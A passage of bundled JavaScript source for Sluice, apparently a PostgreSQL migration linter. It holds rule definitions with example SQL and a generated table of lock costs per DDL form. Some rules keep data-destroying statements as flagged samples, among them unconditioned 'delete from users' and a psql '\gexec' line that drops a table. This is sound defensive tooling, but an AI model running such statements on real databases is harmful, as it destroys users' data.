			if (known === void 0) first.set(short, name);
			return known !== void 0 && known !== name;
		};
		return scripts.flatMap((script) => {
			return marksOf(script, namesIn(script.source.text).filter(isCutToAnother)).map((effect) => ({
				effect,
				place: effect.place,
				level: "high",
				message: `The name ${effect.name} is cut to ${keptName(effect.name)}, which the change names as well.`
			}));
		});
	}
});
function mayHold(text) {
	return /[\w$]{64}|"[^"]{64}|[\u0080-\uffff]/.test(text);
}
const unboundParameter = defineRule({
	id: "unbound-parameter",
	axis: "unknown",
	title: "A statement waits for a value that nobody gives",
	why: "PostgreSQL refuses it as it stands; whatever fills it in decides what it does, after the review.",
	instead: "Write the value into the statement, where it is reviewed.",
	invalid: [{
		sql: "update users set age = 1 where id = $1",
		level: "medium",
		message: "Leaves open what $1 is."
	}],
	valid: ["prepare one (int) as select id from users where id = $1"],
	check: ({ scripts }) => traitsOf(scripts, "parameter").map((effect) => ({
		effect,
		level: "medium",
		message: `Leaves open what $${effect.number} is.`,
		unknown: true
	}))
});
const unboundedDelete = defineRule({
	id: "unbounded-delete",
	axis: "data-loss",
	title: "Every row is deleted",
	why: "The whole table is lost, and rows of other tables may follow through cascading foreign keys.",
	instead: "Name the rows that are meant: a WHERE clause on a key, or a list of keys, in batches.",
	invalid: [{
		sql: "delete from users",
		level: "critical",
		message: "Deletes every row of table users: there is no condition that limits it."
	}, {
		sql: "delete from users where id = id or false",
		level: "critical",
		message: "Deletes every row of table users: its condition is always true."
	}],
	valid: [`create table scratch (id int); delete from scratch`],
	counterfactual: {
		level: "medium",
		when: "it names the rows by their key",
		with: ["delete from users where id = 7"]
	},
	check: ({ effects }) => ofKind(effects, "writes").flatMap((effect) => {
		const { object, verb, reach } = effect;
		if (verb !== "delete" || object.createdHere || !isNamed$1(effect)) return [];
		if (effect.captured !== void 0) return [];
		if (reach !== "unbounded" && reach !== "tautology") return [];
		const because = reach === "tautology" ? "its condition is always true" : "there is no condition that limits it";
		return [{
			effect,
			level: "critical",
			message: `Deletes every row of ${sizedName(object)}: ${because}.`,
			destructive: true,
			...factsOn(object)
		}];
	})
});
const unboundedUpdate = defineRule({
	id: "unbounded-update",
	axis: "data-loss",
	title: "Every row is updated",
	why: "The values that were there before are lost in every row, and every row is locked until the change commits.",
	instead: "Name the rows that are meant: a WHERE clause on a key, or a list of keys, in batches.",
	invalid: [{
		sql: "update users set active = false",
		level: "critical",
		message: "Updates every row of table users: there is no condition that limits it."
	}, {
		sql: "update users set active = false where 1 = 1",
		level: "critical",
		message: "Updates every row of table users: its condition is always true."
	}],
	valid: [`update users set name = 'a' where id = 7`],
	counterfactual: {
		level: "low",
		when: "it names the rows by their key",
		with: ["update users set active = false where id in (1, 2, 3)"]
	},
	check: ({ effects }) => ofKind(effects, "writes").flatMap((effect) => {
		const { object, verb, reach } = effect;
		if (verb !== "update" || object.createdHere || !isNamed$1(effect)) return [];
		if (effect.captured !== void 0) return [];
		if (reach !== "unbounded" && reach !== "tautology") return [];
		const because = reach === "tautology" ? "its condition is always true" : "there is no condition that limits it";
		return [{
			effect,
			level: "critical",
			message: `Updates every row of ${sizedName(object)}: ${because}.`,
			destructive: true,
			...factsOn(object)
		}];
	})
});
const unknownFunctionCall = defineRule({
	id: "unknown-function-call",
	axis: "unknown",
	title: "A function is called whose effects are not known",
	why: "The function can write, drop or send anything; its code is not part of this change.",
	instead: "Do the work in plain statements, or let the function’s owner approve the call.",
	invalid: [
		{
			sql: "select cleanup_users()",
			level: "medium",
			message: "Calls cleanup_users: its effects are not known."
		},
		{
			sql: "select setval('ids', 1)",
			level: "medium",
			message: "Calls setval: its effects are not known."
		},
		{
			sql: "create table scratch (at timestamptz); create trigger touch before update on scratch for each row execute function touch()",
			level: "low",
			message: "Calls touch, whose effects are not known, where somebody writes to a table that this change makes."
		}
	],
	valid: [
		"select count(*) from users",
		"create table scratch (at timestamptz default now())",
		"create table scratch (id uuid default uuid_generate_v4(), other uuid default public.gen_random_uuid())",
		"create policy own on users for select to app using (auth.uid() = id)"
	],
	check: ({ effects }) => {
		const asleep = statementsAsleep(effects);
		const unknown = ofKind(effects, "calls").filter((effect) => !effect.known);
		const waits = (effect) => effect.via === "indirect" && asleep.has(statementOf$1(effect));
		const waiting = new Map(unknown.filter(waits).toReversed().map((effect) => [effect.name, effect]));
		return [...unknown.filter((effect) => !waits(effect)).map((effect) => ({
			effect,
			level: "medium",
			message: `Calls ${effect.name}: its effects are not known.`,
			unknown: true
		})), ...[...waiting.values()].map((effect) => ({
			effect,
			level: "low",
			message: `Calls ${effect.name}, whose effects are not known, where somebody writes to a table that this change makes.`
		}))];
	}
});
/** Statements that put a trigger on a new table which the change itself does not write to. */
function statementsAsleep(effects) {
	const onNew = onNewTables(effects);
	const written = new Set(ofKind(effects, "writes").map(({ object }) => object.name));
	return new Set(ofKind(effects, "creates").filter((effect) => effect.object.kind === "trigger" && onNew.has(effect)).filter(({ object }) => !written.has(object.name)).map(statementOf$1));
}
const unknownStatement = defineRule({
	id: "unknown-statement",
	axis: "unknown",
	title: "A statement or body that Sluice does not follow",
	why: "It can run code that no rule has seen, so it cannot be judged.",
	instead: "Write it in SQL or PL/pgSQL, or let an administrator do it outside of a governed change.",
	invalid: [{
		sql: "create cast (text as int4) with inout as implicit",
		level: "critical",
		message: "Cannot be judged: It runs functions through operators, casts or index access that nobody can follow."
	}],
	valid: ["create type mood as enum ('calm', 'busy')"],
	check: ({ effects }) => ofKind(effects, "unknown").map((effect) => ({
		effect,
		level: "critical",
		message: `Cannot be judged: ${effect.reason}`,
		unknown: true,
		denies: true
	}))
});
const unloggedTable = defineRule({
	id: "unlogged-table",
	default: "off",
	axis: "data-loss",
	title: "A new table does not survive a crash",
	why: "After a crash it is empty, and standby servers never have its rows.",
	instead: "Create an ordinary table unless everything in it can be made again.",
	invalid: [{
		sql: "create unlogged table cache (key text primary key)",
		level: "low",
		message: "Table cache is empty after a crash."
	}],
	valid: ["create table cache (key text primary key)"],
	check: ({ scripts }) => traitsOf(scripts, "unlogged").map((effect) => ({
		effect,
		level: "low",
		message: `Table ${writtenTable(effect.table)} is empty after a crash.`
	}))
});
const unparsed = defineRule({
	id: "unparsed",
	axis: "unknown",
	title: "Text that PostgreSQL’s grammar does not accept",
	why: "Nobody can say what it would do, so it cannot be allowed.",
	instead: "Correct the syntax; put commands of psql or of a migration tool elsewhere.",
	invalid: [{
		sql: "drop tabel users",
		level: "critical",
		message: "Cannot be read: PostgreSQL's grammar does not accept it: syntax error at or near \"tabel\"."
	}, {
		sql: "select 'drop table users' \\gexec",
		level: "critical",
		message: "Cannot be read: It holds a psql meta-command, which only psql understands: PostgreSQL itself refuses it."
	}],
	valid: ["create table scratch (id int)"],
	check: ({ effects }) => ofKind(effects, "unparsed").map((effect) => ({
		effect,
		level: "critical",
		message: `Cannot be read: ${effect.reason}`,
		unknown: true,
		denies: true
	}))
});
/**
* What each form of DDL does to the relations in its roles, from which major version on: measured on
* PostgreSQL 14, 15, 16, 17, 18 and written by scripts/lock-table.mjs, never by hand.
*/
const lockTable = {
	"add-column": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"add-column-constant-default": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"add-column-not-null": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"add-column-not-null-default": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"add-column-stable-default": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"add-column-random-default": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"add-column-uuid-default": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"add-column-clock-default": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"add-column-nextval-default": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "sequence",
				lock: "ROW EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"add-column-serial": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"add-column-identity": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"add-column-stored": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"add-column-virtual": [{
		from: 18,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"add-column-domain": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"add-column-constrained-domain": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"add-column-constrained-domain-default": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"add-column-unique": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			scans: true,
			builds: true
		}]
	}],
	"add-column-primary-key": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			scans: true,
			builds: true
		}]
	}],
	"add-column-check": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			scans: true
		}]
	}],
	"add-column-check-default": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			scans: true
		}]
	}],
	"add-column-references": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "referenced",
			lock: "SHARE ROW EXCLUSIVE"
		}]
	}],
	"add-column-references-default": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				scans: true
			},
			{
				role: "index",
				lock: "ACCESS SHARE"
			},
			{
				role: "referenced",
				lock: "SHARE ROW EXCLUSIVE",
				scans: true
			}
		]
	}],
	"add-column-on-partitioned": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "partition",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"add-column-random-on-partitioned": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "partition",
			lock: "ACCESS EXCLUSIVE",
			rewrites: true,
			scans: true
		}]
	}],
	"add-column-on-inherited": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "child",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"drop-column": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"drop-column-cascade": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "view",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"drop-column-matview-cascade": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "view",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"drop-column-on-partitioned": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "partition",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"set-default": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"set-volatile-default": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"drop-default": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"set-not-null": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			scans: true
		}]
	}],
	"set-not-null-proven": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"set-not-null-unvalidated": [{
		from: 18,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			scans: true
		}]
	}],
	"set-not-null-on-partitioned": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "partition",
			lock: "ACCESS EXCLUSIVE",
			scans: true
		}]
	}],
	"set-not-null-on-inherited": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			scans: true
		}, {
			role: "child",
			lock: "ACCESS EXCLUSIVE",
			scans: true
		}]
	}],
	"drop-not-null": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"set-expression": [{
		from: 17,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"set-virtual-expression": [{
		from: 18,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"drop-expression": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"set-statistics": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"set-column-options": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"reset-column-options": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"set-storage": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"set-compression": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"add-identity": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"set-identity": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "sequence",
			lock: "SHARE ROW EXCLUSIVE"
		}]
	}],
	"drop-identity": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "sequence",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"rename-column": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"rename-column-on-partitioned": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "partition",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"type-int-to-bigint": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-bigint-to-int": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-same": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"type-varchar-wider": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "index",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"type-varchar-narrower": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-varchar-to-text": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "index",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"type-text-to-varchar": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"type-text-to-limited-varchar": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-char-to-text": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-char-wider": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-numeric-wider": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"type-numeric-unlimited": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"type-numeric-scale": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-numeric-narrower": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-varbit-wider": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"type-interval-unlimited": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"type-timestamptz-precision": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"type-timestamptz-less-precision": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-timestamp-to-timestamptz-utc": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"type-timestamp-to-timestamptz": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-timestamp-to-date": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-json-to-jsonb": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-json-to-text": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-text-to-json": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-to-domain": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"type-to-constrained-domain": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-enum-to-text": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-text-to-enum": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-using": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-collate": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			scans: true,
			builds: true
		}, {
			role: "index",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"type-int-to-text": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-with-foreign-key": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "referenced",
				lock: "ACCESS EXCLUSIVE",
				scans: true
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-of-referenced-key": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "referencing",
				lock: "ACCESS EXCLUSIVE",
				scans: true
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"type-on-partitioned": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "partition",
			lock: "ACCESS EXCLUSIVE",
			rewrites: true,
			scans: true
		}]
	}],
	"type-on-inherited": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "child",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"add-check": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			scans: true
		}]
	}],
	"add-check-not-valid": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"add-check-not-enforced": [{
		from: 18,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"add-check-on-partitioned": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "partition",
			lock: "ACCESS EXCLUSIVE",
			scans: true
		}]
	}],
	"add-check-on-inherited": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			scans: true
		}, {
			role: "child",
			lock: "ACCESS EXCLUSIVE",
			scans: true
		}]
	}],
	"validate-check": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE",
			scans: true
		}]
	}],
	"validate-check-on-partitioned": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}, {
			role: "partition",
			lock: "SHARE UPDATE EXCLUSIVE",
			scans: true
		}]
	}],
	"add-not-null": [{
		from: 18,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			scans: true
		}]
	}],
	"add-not-null-not-valid": [{
		from: 18,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"validate-not-null": [{
		from: 18,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE",
			scans: true
		}]
	}],
	"add-foreign-key": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "SHARE ROW EXCLUSIVE",
				scans: true
			},
			{
				role: "index",
				lock: "ACCESS SHARE"
			},
			{
				role: "referenced",
				lock: "SHARE ROW EXCLUSIVE",
				scans: true
			}
		]
	}],
	"add-foreign-key-not-valid": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE ROW EXCLUSIVE"
		}, {
			role: "referenced",
			lock: "SHARE ROW EXCLUSIVE"
		}]
	}],
	"add-foreign-key-not-enforced": [{
		from: 18,
		costs: [{
			role: "itself",
			lock: "SHARE ROW EXCLUSIVE"
		}, {
			role: "referenced",
			lock: "SHARE ROW EXCLUSIVE"
		}]
	}],
	"add-foreign-key-on-partitioned": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "SHARE ROW EXCLUSIVE"
			},
			{
				role: "index",
				lock: "ACCESS SHARE"
			},
			{
				role: "partition",
				lock: "SHARE ROW EXCLUSIVE",
				scans: true
			},
			{
				role: "referenced",
				lock: "SHARE ROW EXCLUSIVE",
				scans: true
			}
		]
	}],
	"add-foreign-key-to-itself": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE ROW EXCLUSIVE",
			scans: true
		}, {
			role: "index",
			lock: "ACCESS SHARE"
		}]
	}],
	"validate-foreign-key": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "SHARE UPDATE EXCLUSIVE",
				scans: true
			},
			{
				role: "index",
				lock: "ACCESS SHARE"
			},
			{
				role: "referenced",
				lock: "ROW SHARE",
				scans: true
			}
		]
	}],
	"drop-foreign-key": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "referenced",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"add-unique": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			scans: true,
			builds: true
		}]
	}],
	"add-unique-on-partitioned": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "partition",
			lock: "SHARE",
			scans: true,
			builds: true
